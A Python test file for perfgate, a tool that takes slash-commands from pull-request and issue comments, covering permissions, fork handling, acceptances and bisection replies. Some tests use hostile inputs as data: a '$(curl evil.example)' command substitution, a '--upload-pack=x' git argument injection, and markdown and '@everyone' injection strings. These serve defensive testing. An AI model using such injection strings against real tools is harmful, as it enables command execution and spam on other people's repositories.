"""Orders in comments, against a forge on this machine that the official API judges: who is heard, and what is done."""

from __future__ import annotations

import itertools
import os
import re
from dataclasses import replace
from typing import Any

import msgspec
import pytest

from perfgate.config import load_config
from perfgate.document.bisection import BisectionDocument, BisectionTrial, CommitChange
from perfgate.document.history import Acceptance
from perfgate.errors import DocumentError, ForgeError, PerfgateError, UsageError
from perfgate.flows.publish.command import answer_bisection, run_command
from perfgate.flows.shared.doors import Doors
from perfgate.flows.shared.store import open_project_store
from perfgate.judging.forge.comment import read_state
from tests.command import run_perfgate
from tests.end_to_end.publishing import START, Job
from tests.fakes.forge import BOT, BOT_TOKEN, PERSON
from tests.fakes.forge_issues import StoredIssue
from tests.fakes.records import built

WRITTEN = {"id": 71, "created_at": "2026-11-20T10:00:00Z", "updated_at": "2026-11-20T10:00:00Z"}


class Order:
    """A comment on pull request 7, which mallory opened from a fork, and the job it starts."""

    def __init__(self, job: Job, author: str, body: str, **comment: Any) -> None:
        self.job = job
        self.outputs = job.folder / "output"
        user = {"login": author, "type": "User"}
        issue = {"number": 7, "pull_request": {"url": "https://x.example"}}
        job.event({"action": "created", "issue": issue, "comment": {"body": body, "user": user, **WRITTEN, **comment}})
        self.environ = {
            **job.environ,
            "GITHUB_EVENT_NAME": "issue_comment",
            "GITHUB_RUN_ID": "90",
            "GITHUB_SHA": job.project.base,
            "GITHUB_OUTPUT": str(self.outputs),
        }

    def obey(self, token: str | None = BOT_TOKEN, **request: Any) -> str:
        """Take the order in this process; return what the log says."""
        said: list[str] = []
        environ = {**self.environ, **({"GITHUB_TOKEN": token} if token else {})}
        doors = Doors(environ=environ, say=said.append, sleep=lambda _: None, clock=lambda: START)
        run_command(self.job.root, doors, **request)
        return "\n".join(said)

    def told(self) -> dict[str, str]:
        """Return what the workflow was told."""
        if not self.outputs.exists():
            return {}
        delimited = r"^(\w+)<<(\w+)\n(.*?)\n\2\n"
        text = self.outputs.read_text()
        assert re.sub(delimited, "", text, flags=re.DOTALL | re.MULTILINE) == ""
        return {name: value for name, _, value in re.findall(delimited, text, flags=re.DOTALL | re.MULTILINE)}


@pytest.fixture
def fork(github: Job) -> Job:
    """A job on a pull request of a fork; who has which role."""
    github.fake.roles = {"ann": "maintain", "bob": "read", "carl": "triage", "dora": "write", "mallory": "write"}
    return github


@pytest.fixture
def own(fork: Job) -> Job:
    """The same pull request, from a branch of the repository itself."""
    fork.fake.changes[:] = [replace(change, owner="team") for change in fork.fake.changes]
    return fork


def _accepted(job: Job) -> list[Acceptance]:
    config = load_config(job.root)
    return open_project_store(config, job.environ).entries(config.project, Acceptance)


@pytest.mark.parametrize("author", ["ann", "dora"])
def test_run__who_may_push__tells_the_workflow_and_answers(own: Job, author: str) -> None:
    order = Order(own, author, "/perfgate run encoder\nplease")
    order.obey()
    assert order.told() == {
        "action": "run",
        "number": "7",
        "head_sha": own.project.head,
        "base_sha": own.project.base,
        "workload": "encoder",
        "metric": "",
        "fork": "false",
    }
    job_url = f"{own.fake.url}/team/model/actions/runs/90/attempts/1"
    expected = f"perfgate is measuring `encoder` at `{own.project.head[:12]}`: [the job]({job_url})\n"
    assert own.comments() == [expected]


@pytest.mark.parametrize("author", ["bob", "carl", "eve", "../collaborators"])
def test_run__who_may_not_push__is_answered_in_the_log_alone(own: Job, author: str) -> None:
    order = Order(own, author, "/perfgate run")
    assert "may not push" in order.obey()
    assert (order.told(), own.comments()) == ({}, [])


@pytest.mark.parametrize(
    ("body", "comment"),
    [
        ("looks good\n/perfgate run", {}),
        ("/perfgate run", {"user": {"login": "ann", "type": "Bot"}}),
        ("/perfgate run", {"updated_at": "2026-11-20T10:00:09Z"}),
        ("/perfgate run", {"user": None}),
    ],
)
def test_run__no_order_or_a_bots_or_edited__nobody_is_asked(own: Job, body: str, comment: Any) -> None:
    order = Order(own, "ann", body, **comment)
    assert "Nothing was asked" in order.obey()
    assert (order.told(), own.comments(), own.fake.calls) == ({}, [], [])


@pytest.mark.parametrize("field", ["head_sha", "base_sha"])
def test_run__forge_names_a_branch_for_a_commit__the_workflow_is_told_nothing(own: Job, field: str) -> None:
    own.fake.changes[:] = [replace(change, **{field: "--upload-pack=x"}) for change in own.fake.changes]
    order = Order(own, "ann", "/perfgate run encoder")
    with pytest.raises(ForgeError, match="no head or base that is a commit"):
        order.obey()
    assert order.told() == {}


def test_run__closed_pull_request__nothing(own: Job) -> None:
    own.fake.changes[:] = [replace(change, open=False) for change in own.fake.changes]
    order = Order(own, "ann", "/perfgate run")
    order.obey()
    assert (order.told(), own.comments()) == ({}, [])


@pytest.mark.parametrize(
    "body",
    [
        "/perfgate run",
        "/perfgate run {head}",
        "/perfgate bisect {head}",
        "/perfgate accept {head} * mine",
        "/perfgate x",
    ],
)
def test_fork__its_author_with_a_role__is_refused(fork: Job, body: str) -> None:
    order = Order(fork, "Mallory", body.format(head=fork.project.head))
    fork.fake.roles["Mallory"] = "write"
    order.obey()
    assert (order.told(), _accepted(fork)) == ({}, [])
    assert fork.comments() == [
        "perfgate did nothing: for a pull request from a fork, someone other than its author has to ask\n"
    ]


def test_fork__commit_not_named__is_refused_and_named(fork: Job) -> None:
    order = Order(fork, "ann", "/perfgate run encoder")
    order.obey()
    assert order.told() == {}
    (reply,) = fork.comments()
    assert fork.project.head in reply
    assert "name the commit that you have reviewed" in reply


def test_fork__commit_named__is_measured(fork: Job) -> None:
    order = Order(fork, "ann", f"/perfgate run {fork.project.head}")
    order.obey()
    assert (order.told()["head_sha"], order.told()["fork"], order.told()["workload"]) == (fork.project.head, "true", "")


@pytest.mark.parametrize("body", ["/perfgate run {old}", "/perfgate bisect {old}", "/perfgate accept {old} * meant"])
def test_fork__pushed_since_the_look__is_refused(fork: Job, body: str) -> None:
    order = Order(fork, "ann", body.format(old=fork.project.older))
    order.obey()
    assert (order.told(), _accepted(fork)) == ({}, [])
    (reply,) = fork.comments()
    assert fork.project.head in reply
    assert fork.project.older in reply


def test_order__hostile_words__neither_mention_command_nor_link(own: Job) -> None:
    Order(own, "ann", "/perfgate accept @everyone/x[y](http://evil.example) `/close` #1").obey()
    (reply,) = own.comments()
    assert reply == "perfgate did nothing: there is no metric `@everyone/x[y](http://evil.example)`\n"


def test_order__not_understood__is_told_what_there_is(own: Job) -> None:
    order = Order(own, "ann", "/perfgate run $(curl evil.example)")
    order.obey()
    (reply,) = own.comments()
    assert order.told() == {}
    assert reply.startswith(
        "perfgate accepts `/perfgate run [WORKLOAD]`, `/perfgate bisect [METRIC]` and `/perfgate accept"
    )


def test_accept__regression_of_the_measured_commit__judged_again_it_warns(own: Job) -> None:
    own.measure(ops=64)
    assert own.publish().returncode == 1
    own.fake.upload(50, "perfgate-default-1", own.zipped())
    Order(own, "ann", "/perfgate accept latency.* not this one").obey()
    comment, reply = own.comments()
    assert " perfgate: FAIL" in comment
    assert reply == f"`latency.*` is accepted for `{own.project.head[:12]}`; perfgate's verdict is now FAIL\n"

    Order(own, "ann", "/perfgate accept counters.* a wider encoder, `see` @docs").obey()
    kept = _accepted(own)[0]
    assert (kept.commit, kept.metric, kept.accepted_by) == (own.project.head, "counters.*", "ann")
    assert kept.reason == "a wider encoder, `see` @docs"
    comment, *replies = own.comments()
    assert " perfgate: WARN" in comment
    assert "a wider encoder" in comment
    state = read_state(comment)
    assert state is not None
    assert (state.run, state.attempt, state.verdict) == (50, 1, "WARN")
    accepted = f"`counters.*` is accepted for `{own.project.head[:12]}`; perfgate's verdict is now WARN\n"
    assert replies[-1] == accepted
    assert own.statuses()[-1] == (own.project.head, "success")


def _numbered(job: Job) -> list[str]:
    """Publish a head with two causes; return what the comment says accepts each."""
    job.measure(ops=64, slowdown=1.1)
    assert job.publish().returncode == 1
    job.fake.upload(50, "perfgate-default-1", job.zipped())
    return re.findall(r"`(/perfgate accept [^`]+)`", job.comments()[0])


def test_accept__numbers_of_a_comment__each_its_metrics_of_the_head_whichever_comes_first(own: Job) -> None:
    first, second = _numbered(own)
    assert (first, second) == ("/perfgate accept 1 REASON", "/perfgate accept 2 REASON")
    state = read_state(own.comments()[0])
    assert state is not None
    times, counts = state.accepts
    assert counts == ["counters.syncs"]
    assert "latency.low" in times

    Order(own, "ann", first.replace("REASON", "a larger model")).obey()
    assert {(one.commit, one.metric) for one in _accepted(own)} == {(own.project.head, metric) for metric in times}
    comment, *replies = own.comments()
    assert " perfgate: FAIL" in comment
    # What was accepted keeps its number, so the other one's is still what people read.
    assert re.findall(r"`(/perfgate accept [^`]+)`", comment) == [second]

    Order(own, "ann", second).obey()
    assert {one.metric for one in _accepted(own)} == {*times, *counts}
    assert {one.commit for one in _accepted(own)} == {own.project.head}
    comment, *replies = own.comments()
    assert " perfgate: WARN" in comment
    assert replies[-1].startswith(f"`counters.syncs` is accepted for `{own.project.head[:12]}`")


@pytest.mark.parametrize(
    ("line", "answer"),
    [
        (
            "1 needed until Friday",
            "perfgate did nothing: `Friday` is not a date; end the comment with `until` and a date such as 2027-01-31",
        ),
        ("latency.low needed until 2020-01-31", "perfgate did nothing: 2020-01-31 is in the past; give the last day"),
    ],
)
def test_accept__until_a_day_that_is_none_or_past__nothing_and_why(own: Job, line: str, answer: str) -> None:
    Order(own, "ann", f"/perfgate accept {line}").obey()
    (reply,) = own.comments()
    assert reply.startswith(answer)
    assert _accepted(own) == []


def test_accept__until_a_day__kept_with_it_and_said(own: Job) -> None:
    Order(own, "ann", "/perfgate accept latency.low until the fix lands until 2999-01-31").obey()
    (kept,) = _accepted(own)
    assert (kept.reason, kept.until) == ("until the fix lands", "2999-01-31")
    (reply,) = own.comments()
    assert "until 2999-01-31; this takes effect once the commit is measured" in reply


def test_accept__both_numbers_at_once__all_their_metrics(own: Job) -> None:
    _numbered(own)
    Order(own, "ann", "/perfgate accept 1,2 a larger model").obey()
    assert " perfgate: WARN" in own.comments()[0]


@pytest.mark.parametrize("number", [0, 3, 999])
def test_accept__number_that_the_comment_has_not__is_refused(own: Job, number: int) -> None:
    _numbered(own)
    Order(own, "ann", f"/perfgate accept {number} meant").obey()
    assert _accepted(own) == []
    expected = f"its comment on `{own.project.head[:12]}` has no cause {number} that can be accepted\n"
    assert own.comments()[-1].endswith(expected)


def test_accept__number_of_a_cause_that_is_accepted_already__is_refused(own: Job) -> None:
    first, _ = _numbered(own)
    Order(own, "ann", first).obey()
    kept = _accepted(own)
    Order(own, "ann", first).obey()
    assert _accepted(own) == kept
    assert own.comments()[-1].endswith("has no cause 1 that can be accepted\n")


def test_accept__number_of_a_comment_on_an_earlier_head__is_refused_with_both_commits(own: Job) -> None:
    first, _ = _numbered(own)
    own.fake.changes[:] = [replace(change, head_sha=own.project.newer) for change in own.fake.changes]
    Order(own, "ann", first).obey()
    assert _accepted(own) == []
    reply = own.comments()[-1]
    assert f"are for `{own.project.head[:12]}`, but the head is now `{own.project.newer[:12]}`" in reply


def test_accept__number_without_a_comment_of_perfgate__is_refused(own: Job) -> None:
    Order(own, "ann", "/perfgate accept 1 meant").obey()
    assert _accepted(own) == []
    assert own.comments() == ["perfgate did nothing: none of its comments here has numbered causes; name the metrics\n"]


def test_accept__number_in_a_comment_that_somebody_else_wrote__is_refused(own: Job) -> None:
    first, _ = _numbered(own)
    for comment in own.fake.comments[7]:
        comment.author = PERSON
    Order(own, "ann", first).obey()
    assert _accepted(own) == []


def test_fork__number_without_the_commit__is_refused_and_the_printed_line_has_it(fork: Job) -> None:
    first, _ = _numbered(fork)
    assert first == f"/perfgate accept {fork.project.head} 1 REASON"
    Order(fork, "ann", "/perfgate accept 1 meant").obey()
    assert _accepted(fork) == []
    Order(fork, "ann", first).obey()
    assert {one.commit for one in _accepted(fork)} == {fork.project.head}


@pytest.mark.parametrize("request_of", [{"key": "other"}, {"workload": "encoder"}])
def test_accept__comment_beside_the_one_with_numbers__names_its_metrics(own: Job, request_of: dict[str, str]) -> None:
    own.measure(ops=64)
    own.publish(**request_of)
    assert f"/perfgate accept {own.project.head} counters.syncs REASON" in own.comments()[0]


def test_accept__number__is_none_of_another_gates_business(own: Job) -> None:
    first, _ = _numbered(own)
    before = own.comments()
    assert "another gate's comment" in Order(own, "ann", first).obey(key="other")
    assert (_accepted(own), own.comments()) == ([], before)


def test_accept__commit_not_measured_yet__is_kept_and_waits(own: Job) -> None:
    Order(own, "ann", "/perfgate accept latency.low meant").obey()
    assert [one.metric for one in _accepted(own)] == ["latency.low"]
    assert own.comments() == [
        f"`latency.low` is accepted for `{own.project.head[:12]}`; this takes effect once the commit is measured\n"
    ]


def test_accept__comment_is_of_an_earlier_commit__waits(own: Job) -> None:
    own.measure(ops=64)
    own.publish()
    before = own.comments()
    own.fake.changes[:] = [replace(change, head_sha=own.project.newer) for change in own.fake.changes]
    Order(own, "ann", "/perfgate accept * meant").obey()
    assert own.comments()[:-1] == before
    assert [one.commit for one in _accepted(own)] == [own.project.newer]


def test_accept__metric_misspelt__is_told_the_right_one(own: Job) -> None:
    Order(own, "ann", "/perfgate accept latency.lwo meant").obey()
    assert _accepted(own) == []
    assert own.comments() == ["perfgate did nothing: there is no metric `latency.lwo`; did you mean `latency.low`?\n"]


def test_order__in_chinese__is_answered_in_chinese(own: Job) -> None:
    Order(own, "ann", "/perfgate accept latency.lwo meant").obey(language="zh")
    assert own.comments() == ["perfgate 未执行：没有指标 `latency.lwo`；是否指 `latency.low`？\n"]


def test_order__no_token__says_so(own: Job) -> None:
    with pytest.raises(UsageError, match="none of PERFGATE_TOKEN, GITHUB_TOKEN holds a token"):
        Order(own, "ann", "/perfgate run").obey(token=None)


def test_order__not_started_by_a_comment__says_so(own: Job) -> None:
    order = Order(own, "ann", "/perfgate run")
    order.environ["GITHUB_EVENT_NAME"] = "push"
    with pytest.raises(PerfgateError, match="issue_comment"):
        order.obey()


def test_command__as_a_process__ends_with_0_and_quotes_the_stranger(own: Job) -> None:
    order = Order(own, "eve", "/perfgate run")
    plain = {name: os.environ[name] for name in ("PATH", "HOME", "LANG") if name in os.environ}
    done = run_perfgate("command", cwd=own.root, environment={**plain, **order.environ, "GITHUB_TOKEN": BOT_TOKEN})
    assert (done.returncode, done.stderr) == (0, "")
    lines = done.stdout.splitlines()
    assert lines[0] == "Nothing was done."
    assert lines[1].startswith("::stop-commands::")
    assert own.fake.comments.get(7, []) == [one for one in own.fake.comments.get(7, []) if one.author == BOT] == []


def test_bisect__who_may_push__tells_the_workflow_and_answers(own: Job) -> None:
    order = Order(own, "dora", "/perfgate bisect latency.*@encoder")
    order.obey()
    told = order.told()
    assert (told["action"], told["metric"], told["workload"]) == ("bisect", "latency.*@encoder", "")
    assert (told["head_sha"], told["base_sha"]) == (own.project.head, own.project.base)
    (reply,) = own.comments()
    head = own.project.head[:12]
    expected = f"perfgate is bisecting up to `{head}` for the commit that made `latency.*@encoder` worse: [the job]("
    assert reply.startswith(expected)


def test_bisect__metric_misspelt__is_refused_with_the_right_one(own: Job) -> None:
    order = Order(own, "ann", "/perfgate bisect latency.lwo")
    order.obey()
    assert order.told() == {}
    assert own.comments() == ["perfgate did nothing: there is no metric `latency.lwo`; did you mean `latency.low`?\n"]


def test_bisect__who_may_not_push__is_answered_in_the_log_alone(own: Job) -> None:
    order = Order(own, "bob", "/perfgate bisect")
    assert "may not push" in order.obey()
    assert (order.told(), own.comments()) == ({}, [])


def _on_issue(job: Job, author: str, body: str) -> Order:
    """A comment on issue 3, the weekly report."""
    order, user = Order(job, author, body), {"login": author, "type": "User"}
    job.fake.issues.append(StoredIssue(3, "perfgate: how main is doing", "text", BOT))
    job.event({"action": "created", "issue": {"number": 3}, "comment": {"body": body, "user": user, **WRITTEN}})
    return order


def test_bisect__commits_of_main_on_an_issue__tells_the_workflow_and_answers_there(own: Job) -> None:
    good, bad = own.project.older, own.project.base
    order = _on_issue(own, "ann", f"/perfgate bisect latency.low {good[:10]}..{bad[:10]}")
    order.obey()
    told = order.told()
    assert (told["action"], told["number"], told["metric"], told["fork"]) == ("bisect", "3", "latency.low", "false")
    assert (told["base_sha"], told["head_sha"]) == (good, bad)
    (reply,) = own.comments(3)
    assert reply.startswith(
        f"perfgate is bisecting up to `{bad[:12]}` for the commit that made `latency.low` worse: [the job]("
    )


@pytest.mark.parametrize("pair", [("base", "older"), ("base", "base"), ("base", "head"), ("base", "unrelated")])
def test_bisect__commits_that_are_not_of_main_in_this_order__are_refused_by_name(
    own: Job, pair: tuple[str, str]
) -> None:
    good, bad = (getattr(own.project, name)[:10] for name in pair)
    order = _on_issue(own, "ann", f"/perfgate bisect {good}..{bad}")
    order.obey()
    assert order.told() == {}
    (reply,) = own.comments(3)
    assert f"`{good}` and `{bad}` are not two commits of the main branch" in reply


@pytest.mark.parametrize(
    ("author", "body"),
    [
        ("ann", "/perfgate bisect"),
        ("ann", "/perfgate run"),
        ("ann", "/perfgate accept * meant"),
        ("bob", "/perfgate bisect {older}..{base}"),
    ],
)
def test_issue__any_other_order_or_author__is_answered_in_the_log_alone(own: Job, author: str, body: str) -> None:
    project = own.project
    order = _on_issue(own, author, body.format(older=project.older[:10], base=project.base[:10]))
    assert "Nothing was done" in order.obey()
    assert (order.told(), own.comments(3), _accepted(own)) == ({}, [], [])


def test_bisect__commits_of_main_on_a_pull_request__is_told_what_there_is(own: Job) -> None:
    order = Order(own, "ann", f"/perfgate bisect {own.project.older[:10]}..{own.project.base[:10]}")
    order.obey()
    assert order.told() == {}
    assert own.comments()[0].startswith("perfgate accepts `/perfgate run [WORKLOAD]`, `/perfgate bisect [METRIC]`")


HOSTILE = "@everyone </details> [x](http://evil.example) `x`"


def _bisection(job: Job, **fields: Any) -> BisectionDocument:
    """A bisection of three commits up to the head, as the measuring job leaves it: the second is slower."""
    commits = [job.project.older, "c" * 40, job.project.head]
    changes = [
        CommitChange(commit=commit, before=before, subject=HOSTILE, author="mallory")
        for before, commit in itertools.pairwise([job.project.base, *commits])
    ]
    values: dict[str, Any] = {
        "commit": job.project.head, "perfgate_version": "0.1.0", "changes": changes, "cumulative": True, "outcome": "found",
        "culprits": [[1]], "suspects": [], "followed": ["encoder/long latency.low"], "deciding": 0, "duration": 60.0,
        "good": job.project.base, "error": 0.003,
        "tried": [BisectionTrial(changes=[0, 1, 2], answer="slow", answered_by="gate", folder="gates/01", error=0.001)],
    }  # fmt: skip
    return built(BisectionDocument, {**values, **fields})


def _answer(job: Job, document: BisectionDocument | None) -> None:
    """Run the job that answers, on what the measuring job left."""
    folder = job.folder / "bisection"
    folder.mkdir(exist_ok=True)
    if document is not None:
        (folder / "bisection.json").write_bytes(msgspec.json.encode(document))
    given = {
        "PERFGATE_FORGE": "github",
        "PERFGATE_API_URL": job.fake.api_url,
        "PERFGATE_SERVER_URL": job.fake.url,
        "PERFGATE_REPOSITORY": "team/model",
        "PERFGATE_CHANGE_REQUEST": "7",
        "PERFGATE_HEAD_SHA": job.project.head,
        "PERFGATE_RUN_ID": "90",
        "PERFGATE_RUN_ATTEMPT": "1",
        "PERFGATE_JOB_URL": f"{job.fake.url}/team/model/actions/runs/90/attempts/1",
        "GITHUB_TOKEN": BOT_TOKEN,
    }
    doors = Doors(environ={**job.environ, **given}, say=lambda _: None, sleep=lambda _: None, clock=lambda: START)
    answer_bisection(folder, "en", doors)


def test_answer__bisection_of_the_change__names_the_commit_and_nothing_of_it_commands(own: Job) -> None:
    _answer(own, _bisection(own))
    (reply,) = own.comments()
    first, *_ = reply.splitlines()
    assert first == f"**Slower since `{'c' * 10}`, by `mallory`: `` {HOSTILE} ``**"
    assert "the probability that noise makes this wrong is at most 0.3 %" in reply
    assert f"| 1 | `{own.project.head[:10]}` `` {HOSTILE} `` | slower |" in reply
    assert "it changes no verdict and no status. [the job](" in reply
    assert own.statuses() == []


@pytest.mark.parametrize(
    "fields",
    [
        {"commit": "d" * 40},
        {"good": None},
        {"culprits": [[3]]},
        {"culprits": []},
        {"tried": []},
        {"changes": []},
        {"changes": [CommitChange(commit="[x](http://evil.example)", before="b" * 40, subject="x", author="x")]},
    ],
)
def test_answer__bisection_that_is_not_one_of_the_change__is_not_shown_and_refused(
    own: Job, fields: dict[str, Any]
) -> None:
    with pytest.raises(DocumentError):
        _answer(own, _bisection(own, **fields))
    (reply,) = own.comments()
    assert reply.startswith(
        "perfgate found no commit: the measuring job left no bisection; see its log for the reason."
    )


def test_answer__thousands_of_trials__fits_a_comment(own: Job) -> None:
    document = _bisection(own)
    reason = HOSTILE * 9
    tried = [msgspec.structs.replace(document.tried[0], answer="impossible", reason=reason)] * 5000
    _answer(own, msgspec.structs.replace(document, tried=tried))
    (reply,) = own.comments()
    assert len(reply) < 60_000


def test_answer__measuring_left_nothing__says_so_with_the_job(own: Job) -> None:
    _answer(own, None)
    (reply,) = own.comments()
    assert reply.startswith(
        "perfgate found no commit: the measuring job left no bisection; see its log for the reason."
    )
    assert "[the job](" in reply
